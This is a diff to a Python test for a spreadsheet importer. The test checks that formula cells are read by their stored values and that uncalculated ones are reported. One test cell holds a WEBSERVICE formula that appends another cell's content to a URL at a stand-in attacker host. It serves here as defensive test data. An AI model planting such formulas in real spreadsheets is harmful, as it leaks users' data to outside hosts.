@@ -203,6 +203,7 @@ def item_row(r: int, name_cell: str, category: str = "行政许可") -> str:
 
 
 def test_formulas_are_read_as_their_stored_values_and_uncalculated_ones_reported(tmp_path, capsys):
+    (tmp_path / "policykit.yaml").write_bytes((Path(__file__).resolve().parents[1] / "policykit.yaml").read_bytes())
     path = xlsx_from_xml(tmp_path / "公式.xlsx", "<sheetData>" + HEADER_ROW
                          + item_row(2, '<c r="B2" t="str"><f>CONCAT("某项","许可")</f><v>某项许可</v></c>')
                          + item_row(3, '<c r="B3" t="str"><f>WEBSERVICE("http://evil.example/?"&amp;D2)</f></c>')
